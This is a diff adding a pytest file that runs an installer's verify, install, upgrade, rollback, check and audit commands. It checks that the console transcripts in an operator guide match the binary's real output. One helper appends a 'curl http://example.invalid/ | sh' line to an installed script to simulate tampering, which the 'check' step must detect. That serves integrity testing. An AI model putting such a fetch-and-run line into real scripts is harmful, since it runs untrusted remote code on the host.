@@ -1,0 +1,155 @@
+"""docs/operator-guide.md shows the built binary's real output, and cannot go stale.
+
+Each ``<!-- transcript: ID -->`` block in the guide is a ``console`` code block: a
+``$ abhed-installer ...`` line and what it printed (stdout and stderr interleaved, as a
+terminal shows them).  This test runs the same commands, in order, with the built binary
+on real signed test bundles in a temporary prefix, normalises what varies between runs
+(paths, hashes, key ids, times, durations, rates, ports, user and host) and compares block
+by block.  ``scripts/operator-guide-transcript`` (``ABHED_WRITE_GUIDE=1``) rewrites the
+blocks from a fresh run instead, leaving the prose alone.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shlex
+import shutil
+import subprocess
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from .conftest import ROOT, BundleMaker, Keys
+
+pytestmark = pytest.mark.slow
+
+GUIDE = ROOT / "docs" / "operator-guide.md"
+PREFIX = "/opt/abhed"
+_BLOCK = re.compile(r"(<!-- transcript: (?P<id>[a-z0-9-]+) -->\n```console\n)(?P<body>.*?)(```)",
+                    re.S)
+
+
+@dataclass(frozen=True)
+class Step:
+    id: str
+    command: str  # as the operator types it, after "abhed-installer "
+    before: Callable[[Path], None] | None = None
+    exit_code: int = 0
+
+
+def _alter(prefix: Path) -> None:
+    f = prefix / "current" / "run-model-server"
+    f.write_text(f.read_text() + "curl http://example.invalid/ | sh\n")
+
+
+STEPS = [
+    Step("verify", "verify abhed-1.abhed --trust publisher.pub"),
+    Step("preflight", "preflight abhed-1.abhed --trust publisher.pub"),
+    Step("install", "install abhed-1.abhed --trust publisher.pub"),
+    Step("status", "status"),
+    Step("upgrade", "upgrade abhed-2.abhed"),
+    Step("downgrade", "upgrade abhed-1.abhed", exit_code=5),
+    Step("rollback", "rollback"),
+    Step("check", "check"),
+    Step("check-altered", "check", before=_alter, exit_code=8),
+    Step("audit-verify", "audit verify"),
+    Step("audit-show", "audit show -n 4"),
+]
+
+
+def normalise(text: str, work: Path) -> str:
+    """Replace what differs between runs, hosts and dependency sets by fixed stand-ins.
+
+    The prefix is ``work/prefix`` (shown as /opt/abhed, so ``work`` itself is /opt) and
+    the bundles and key lie in ``work/site``, the current directory.
+    """
+    text = text.replace(str(work / "prefix"), PREFIX).replace(str(work / "site") + "/", "")
+    text = text.replace(str(work / "site"), ".").replace(str(work), "/opt")
+    text = re.sub(r"/tmp/[^\s'\"]+", "/tmp/...", text)
+    text = re.sub(r"\b[0-9a-f]{64}\b", "<sha256>", text)
+    text = re.sub(r"\b[0-9a-f]{12,40}\b", "<hex>", text)
+    text = re.sub(r"\b[0-9A-F]{16}\b", "<key-id>", text)
+    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|\+00:00)?", "<time>", text)
+    text = re.sub(r"(<time> )[^@\s]+@\S+", r"\1operator@host", text)
+    text = re.sub(r"s-\d{8}-\d{6}-[0-9a-f]{6}", "<session>", text)
+    text = re.sub(r"(port |:)(\d{4,5})\b", r"\1<port>", text)
+    text = re.sub(r"(CPython \d+\.\d+) \(/[^)]*\)", r"\1 (/usr/bin/python3)", text)
+    # Progress lines come at most twice a second, so how many depends on speed: keep the
+    # last one (100%) of each.
+    text = re.sub(r"(?m)^abhed-installer: [^:\n]+: [\d.]+ / [\d.]+ MiB \((?!100%)\d+%.*\n", "",
+                  text)
+    text = re.sub(r"\b\d+\.\d+ / \d+\.\d+ MiB", "<n> / <n> MiB", text)
+    # Sizes and counts that follow the wheelhouse (others' dependencies) and the path length.
+    text = re.sub(r"\b\d+(\.\d+)? ?(s|ms|MiB/s|MiB|GiB)\b", r"<n> \2", text)
+    text = re.sub(r"\b\d+ (members|wheels|files)\b", r"<n> \1", text)
+    text = re.sub(r"size \d+, expected \d+", "size <n>, expected <n>", text)
+    return text
+
+
+def run_transcript(installer_bin: list[str], make_bundle: BundleMaker, keys: Keys,
+                   work: Path) -> dict[str, str]:
+    """Run STEPS on a fresh prefix; each block's normalised text by id."""
+    site, prefix = work / "site", work / "prefix"
+    site.mkdir()
+    for v in (1, 2):
+        shutil.copy(make_bundle(v, name="abhed"), site / f"abhed-{v}.abhed")
+    shutil.copy(keys.pub, site / "publisher.pub")
+    (work / "sysroot/etc").mkdir(parents=True)
+    env = {k: v for k, v in os.environ.items() if not k.startswith("ABHED_INSTALLER")}
+    env.update(ABHED_PREFIX=str(prefix), ABHED_INSTALLER_SYSROOT=str(work / "sysroot"),
+               COLUMNS="100")
+    blocks: dict[str, str] = {}
+    for step in STEPS:
+        if step.before:
+            step.before(prefix)
+        p = subprocess.run(installer_bin + shlex.split(step.command), cwd=site, env=env,
+                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
+                           stdin=subprocess.DEVNULL, timeout=900)
+        assert p.returncode == step.exit_code, f"{step.command}: exit {p.returncode}\n{p.stdout}"
+        shown = f"$ abhed-installer {step.command}\n{p.stdout}"
+        if step.exit_code:
+            shown += f"$ echo $?\n{step.exit_code}\n"
+        blocks[step.id] = normalise(shown, work)
+    return blocks
+
+
+def guide_blocks(text: str) -> dict[str, str]:
+    return {m["id"]: m["body"] for m in _BLOCK.finditer(text)}
+
+
+def rewrite(text: str, blocks: dict[str, str]) -> str:
+    return _BLOCK.sub(lambda m: m[1] + blocks.get(m["id"], m["body"]) + m[4], text)
+
+
+def test_normalise_replaces_what_varies() -> None:
+    work = Path("/tmp/pytest-9/x0")
+    got = normalise(f"{work}/prefix/releases/2 {work}/site/abhed-1.abhed {'ab' * 32} "
+                    "8523B07BD34081BF 2026-11-29T14:16:23.797068Z 12.5 s port 41234 "
+                    "s-20261129-141623-936c7f 21.4 MiB 44 wheels found /tmp/pytest-9/x0 writable\n"
+                    "abhed-installer: verify: 0.0 / 21.4 MiB (0%, 0.0 MiB/s)\n"
+                    "abhed-installer: verify: 21.4 / 21.4 MiB (100%, 90.1 MiB/s)\n"
+                    "#26 2026-11-29T14:23:01+00:00 root@vm rollback start begun release 1",
+                    work)
+    assert got == ("/opt/abhed/releases/2 abhed-1.abhed <sha256> <key-id> <time> <n> s "
+                   "port <port> <session> <n> MiB <n> wheels found /opt writable\n"
+                   "abhed-installer: verify: <n> / <n> MiB (100%, <n> MiB/s)\n"
+                   "#26 <time> operator@host rollback start begun release 1")
+
+
+def test_the_guide_shows_the_binarys_real_output(installer_bin: list[str],
+                                                 make_bundle: BundleMaker, keys: Keys,
+                                                 tmp_path: Path) -> None:
+    text = GUIDE.read_text()
+    blocks = run_transcript(installer_bin, make_bundle, keys, tmp_path)
+    if os.environ.get("ABHED_WRITE_GUIDE") == "1":
+        GUIDE.write_text(rewrite(text, blocks))
+        text = GUIDE.read_text()
+    in_guide = guide_blocks(text)
+    assert sorted(in_guide) == sorted(blocks), "the guide's transcript blocks and STEPS differ"
+    for step in STEPS:
+        assert in_guide[step.id] == blocks[step.id], (
+            f"docs/operator-guide.md block {step.id!r} no longer matches the binary's output; "
+            "run scripts/operator-guide-transcript and review the diff")
